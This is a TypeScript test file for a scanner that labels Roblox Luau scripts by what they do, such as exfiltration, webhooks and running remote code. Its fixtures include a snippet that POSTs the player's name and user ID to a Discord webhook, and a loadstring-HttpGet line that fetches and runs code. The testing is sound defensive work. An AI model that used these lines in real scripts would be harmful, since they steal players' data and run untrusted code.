import { analyze } from '@scriptyard/luau-behavior'
import { OPAQUE, STOPPED, UNREAD } from '@scriptyard/luau-behavior/capabilities'
import { describe, expect, test } from 'vitest'
import type { Behavior, BehaviorFinding } from '#contract/behavior.ts'
import { CAPABILITY_IDS, type CapabilityId } from '#contract/behavior-names.ts'
import { CAPABILITY_GROUPS } from '#web/lib/behavior-text.ts'
import { type FindingView, viewBehavior } from './behavior-view.ts'

/** The card that the API gives for code, with real findings. */
function cardOf(code: string, changes: Partial<Behavior> = {}): Behavior {
  const { capabilities, hosts, obfuscator, opaque } = analyze(code)
  return {
    status: 'ready',
    analyzer_version: 1,
    is_outdated: false,
    analyzed_at: '2026-01-01T00:00:00.000Z',
    sha256: '0'.repeat(64),
    version: '1.1.0',
    compiles: true,
    compile_error: null,
    capabilities: capabilities.map((finding): BehaviorFinding => ({
      ...finding,
      declared: 'not_asked',
      evidence: finding.evidence.map(({ endLine, ...rest }) => ({ ...rest, end_line: endLine })),
    })),
    hosts: hosts.map((host) => ({ ...host, declared: 'not_asked', kind: null })),
    obfuscator,
    opaque,
    declared_not_found: [],
    ...changes,
  }
}

const view = (code: string, changes?: Partial<Behavior>) => viewBehavior(cardOf(code, changes), [])
const findingsOf = (code: string) => view(code).groups.flatMap(({ findings }): FindingView[] => findings)
const textOf = (code: string, id: CapabilityId) => findingsOf(code).find((finding) => finding.id === id)?.text

const WEBHOOK = 'https://discord.com/api/webhooks/123456789012345678/secret'
const LOGGER = `local me = game:GetService("Players").LocalPlayer
request({ Url = "${WEBHOOK}", Method = "POST", Body = me.Name .. me.UserId })`

test('every capability is in one group', () => {
  expect(CAPABILITY_GROUPS.flatMap(({ ids }) => ids).toSorted()).toEqual(CAPABILITY_IDS.toSorted())
})

describe('a sentence', () => {
  test.each<[CapabilityId, string, string]>([
    ['net.exfiltration', LOGGER, 'Sends your name and user ID to discord.com'],
    ['net.webhook', LOGGER, 'Sends messages to a Discord webhook'],
    ['net.send', LOGGER, 'Sends data to discord.com'],
    ['net.get', 'game:HttpGet("https://a.com/x")', 'Downloads data from a.com'],
    ['net.get', 'game:HttpGet(address)', 'Downloads data from the internet'],
    ['net.socket', 'WebSocket.connect("wss://a.com/x")', 'Keeps a connection to a.com open'],
    ['code.remote', 'loadstring(game:HttpGet("https://a.com/x"))()', 'Runs downloaded code from a.com'],
    ['needs.executor', 'writefile("a", "b") setclipboard("c")', 'Needs an executor for writefile and setclipboard'],
    ['shape.secret', `local url = "${WEBHOOK}${'a'.repeat(60)}"`, 'Exposes a secret: a Discord webhook with its token'],
  ])('about %s says what is known', (id, code, text) => {
    expect(textOf(code, id)).toBe(text)
  })

  test('names two servers and counts the others', () => {
    const code = ['a', 'b', 'c', 'd'].map((name) => `game:HttpGet("https://${name}.com/")`).join('\n')
    expect(textOf(code, 'net.get')).toBe('Downloads data from a.com, b.com and 2 other servers')
  })
})

test('a finding shows three places with their code and lists the lines of the others', () => {
  const [finding] = findingsOf('game:HttpGet(url)\n'.repeat(30))
  expect(finding?.places.map(({ line }) => line)).toEqual([1, 2, 3])
  expect(finding).toMatchObject({ count: 30, lines: Array.from({ length: 17 }, (_one, i) => i + 4) })
})

test('a line has one mark with all that was found there', () => {
  const { marks } = view(LOGGER)
  expect(marks).toEqual([
    {
      line: 2,
      id: 'net.exfiltration',
      level: 'warning',
      label: expect.stringMatching(/^Line 2: Sends data about you; Sends messages to .*; Needs an executor$/),
    },
  ])
})

test('the gist names the most important findings and counts the others', () => {
  expect(view(`${LOGGER}\nloadstring(game:HttpGet("https://a.com/x"))()`).gist).toEqual([
    'Sends data about you',
    'Sends messages to a webhook',
    'Runs downloaded code',
    expect.stringMatching(/^\d more$/),
  ])
})

const withDeclared = (code: string, declared: BehaviorFinding['declared']) => {
  const { capabilities } = cardOf(code)
  return view(code, { capabilities: capabilities.map((finding) => ({ ...finding, declared })) })
}

test('a serious finding that was not declared is an alert with its line', () => {
  const alert = { id: 'net.exfiltration', text: 'Sends your name and user ID to discord.com', line: 2 }
  expect(withDeclared(LOGGER, 'undeclared').alert).toEqual(alert)
  expect(withDeclared(LOGGER, 'not_asked').alert).toEqual(alert)
  expect(withDeclared(LOGGER, 'declared').alert).toBeNull()
  expect(withDeclared('request({ Url = "https://a.com", Method = "POST", Body = "x" })', 'undeclared').alert).toBeNull()
})

test('without findings, the gist says why', () => {
  const gistOf = (changes: Partial<Behavior>) => view('print(1)', changes).gist
  expect(gistOf({})).toEqual(['nothing found'])
  expect(gistOf({ status: 'pending' })).toEqual(['running…'])
  expect(gistOf({ status: 'failed' })).toEqual(['failed'])
  expect(gistOf({ compiles: false })).toEqual(["Doesn't compile"])
  const compile_error = { line: 23, column: null, message: 'x' }
  expect(gistOf({ compiles: false, compile_error })).toEqual(["Doesn't compile (line 23)"])
})

test.each<[string, Partial<Behavior>]>([
  ['does not compile', { compiles: false, compile_error: { line: 1, column: null, message: 'x' } }],
  ['could not be compiled', { compiles: null }],
  ['was not read to its end', { opaque: [{ reason: UNREAD.limit, count: 1 }] }],
  ['did not run to its end', { opaque: [{ reason: STOPPED.time, count: 1 }] }],
  ['chooses a function while it runs', { opaque: [{ reason: 'A function that is chosen while it runs', count: 1 }] }],
  ['waits for its run', { status: 'pending' }],
])('nobody says that nothing was found in a script that %s', (_, changes) => {
  const { isComplete, gist } = view('print(1)', changes)
  expect(isComplete).toBe(false)
  expect(gist.join(' ')).not.toContain('nothing found')
})

test('what was not looked into comes first if it is most of the script', () => {
  const isFirst = (...reasons: string[]) =>
    view('', { opaque: reasons.map((reason) => ({ reason, count: 1 })) }).isMostlyUnread
  for (const reason of [...Object.values(UNREAD), ...Object.values(STOPPED)]) expect(isFirst(reason)).toBe(true)
  expect(isFirst()).toBe(false)
  expect(isFirst(OPAQUE.downloaded, OPAQUE.dynamic)).toBe(false)
})

test('hosts that are only named stand apart from servers that are contacted', () => {
  const host = (name: string, contacted?: boolean) => ({
    host: name,
    line: 1,
    ...(contacted !== undefined && { contacted }),
    declared: 'not_asked' as const,
    kind: null,
  })
  const { servers, namedHosts } = view('', { hosts: [host('old'), host('link', false), host('api', true)] })
  expect(servers.map((one) => one.host)).toEqual(['old', 'api'])
  expect(namedHosts.map((one) => one.host)).toEqual(['link'])
})

test('collectors and undeclared servers come first', () => {
  const host = (name: string, declared: 'declared' | 'undeclared', kind: 'collector' | 'known' | null) => ({
    host: name,
    line: 1,
    declared,
    kind,
  })
  const hosts = [
    host('known', 'undeclared', 'known'),
    host('declared', 'declared', null),
    host('undeclared', 'undeclared', null),
    host('collector', 'declared', 'collector'),
  ]
  expect(view('', { hosts }).servers.map((one) => one.host)).toEqual(['collector', 'undeclared', 'declared', 'known'])
})

test('only the change of the current version is shown', () => {
  const none = { created_at: '', starts: [], stops: [], hosts_added: [], hosts_removed: [] }
  const changes = [
    { ...none, number: 2, version: '1.1.0', starts: ['fs.write' as const] },
    { ...none, number: 1, version: '1.0.0', starts: ['fs.read' as const] },
  ]
  expect(viewBehavior(cardOf(''), changes).changes).toEqual(['starts to save files'])
  expect(viewBehavior(cardOf('', { version: '2.0.0' }), changes).changes).toEqual([])
})
